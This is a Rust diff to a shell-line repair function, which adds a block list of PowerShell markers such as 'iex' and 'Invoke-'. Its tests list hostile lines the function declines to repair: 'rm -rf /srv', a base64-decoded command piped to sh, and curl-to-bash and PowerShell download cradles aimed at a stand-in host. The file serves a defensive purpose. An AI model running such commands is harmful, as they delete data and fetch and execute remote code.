@@ -7,7 +7,7 @@
 /// other half and the ends of what was never begun. It is as long as the text, so places in it stay. `None` if there is nothing to take away,
 /// or if more stands in it than words, quotes and operators.
 pub(super) fn mended(text: &str) -> Option<String> {
-    if text.len() > MAX_TEXT || DEEP.iter().any(|deep| text.contains(deep)) {
+    if text.len() > MAX_TEXT || DEEP.iter().chain(&FOREIGN).any(|deep| text.contains(deep)) {
         return None;
     }
     let tokens = tokens(text)?;
@@ -34,7 +34,13 @@ pub(super) fn mended(text: &str) -> Option<String> {
             },
             Kind::Open => {
                 let called = touches && next.is_some_and(|next| next.kind == Kind::Close && next.start == token.end);
-                mender.opens(token, called.then_some(tokens.len() - at));
+                // The head of a function, whose body comes with the next line.
+                if let (true, Some(close), None) = (called, next, tokens.get(at + 2)) {
+                    mender.blank(token);
+                    mender.blank(close);
+                    break;
+                }
+                mender.opens(token, called);
             }
             Kind::Close => mender.closes(token),
             Kind::Word => mender.word(token, text, next, &said),
@@ -80,22 +86,11 @@ impl Mender {
         self.fresh = true;
     }
 
-    /// `called`: it opens and closes behind a word, with so many tokens from it to the end.
-    fn opens(&mut self, token: &Token, called: Option<usize>) {
-        match called {
-            // The head of a function, whose body comes with the next line.
-            Some(2) => self.blank(token),
-            Some(_) => self.open.push(true),
-            None if self.fresh => {
-                self.open.push(true);
-            }
-            None => {
-                self.open.push(false);
-                self.ends(token);
-            }
-        }
-        if called == Some(2) {
-            self.open.push(false);
+    /// `called`: it opens and closes behind a word.
+    fn opens(&mut self, token: &Token, called: bool) {
+        self.open.push(called || self.fresh);
+        if !called && !self.fresh {
+            self.ends(token);
         }
     }
 
@@ -212,6 +207,9 @@ fn word_end(bytes: &[u8], from: usize) -> Option<usize> {
 /// What makes a text more than words, quotes and operators, or its brackets more than brackets.
 const DEEP: [&str; 15] = ["\n", "\r", "`", "$(", "${", "<(", ">(", "=(", "((", "@(", "!(", "+(", "?(", "$'", "<<-"];
 
+/// What a line of PowerShell looks like, whose brackets are no mistakes.
+const FOREIGN: [&str; 5] = ["New-Object", "Invoke-", "[System.", "[Net.", "iex "];
+
 /// Bytes of a line that somebody mistypes.
 const MAX_TEXT: usize = 512;
 
@@ -241,7 +239,9 @@ mod tests {
         ] {
             assert_eq!(mended(line).as_deref(), Some(want), "{line}");
         }
-        for line in ["ls", "ls; wc", "a && b", "x=$(ls ;;", "case x in a) b ;; esac", "echo 'a", "f() { ls; }", "cat <<E ;;\nE"] {
+        for line in
+            ["ls", "ls; wc", "a && b", "x=$(ls ;;", "case x in a) b ;; esac", "echo 'a", "f() { ls; }", "cat <<E ;;\nE"]
+        {
             assert_eq!(mended(line), None, "{line}");
         }
     }
@@ -256,7 +256,8 @@ mod tests {
             "rm -rf /srv ;;",
             "| rm -rf /srv",
             "echo cm0gLXJmIC9zcnYK | base64 -d | sh ;;",
-            "curl -s https://x.example/a | bash }",
+            "curl -s https://x.example/a | bash ;;",
+            "iex (New-Object Net.WebClient).DownloadString('http://x.example/a')",
             "ls ) rm -rf /srv",
             "echo a,b} | sh; reboot",
             "$x -rf /srv ;; `",
